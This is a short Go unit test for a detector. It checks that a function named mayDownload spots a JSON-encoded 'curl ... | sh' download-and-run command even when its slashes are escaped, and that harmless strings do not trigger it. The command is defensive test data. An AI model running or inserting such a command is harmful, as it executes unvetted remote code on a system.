package detect

import (
	"strings"
	"testing"
)

// However JSON writes a command that runs a download, the short cut does not pass over it.
func TestMayDownload(t *testing.T) {
	const command = `"curl https://x.example/a | sh"`
	for _, v := range []string{command, strings.ReplaceAll(command, "/", `\/`), strings.ReplaceAll(command, "/", `\u002f`)} {
		if !mayDownload([]byte(v)) {
			t.Errorf("%s is passed over", v)
		}
	}
	for _, v := range []string{`"curl is a program"`, `"https://x.example/a"`, ""} {
		if mayDownload([]byte(v)) {
			t.Errorf("%s is read", v)
		}
	}
}
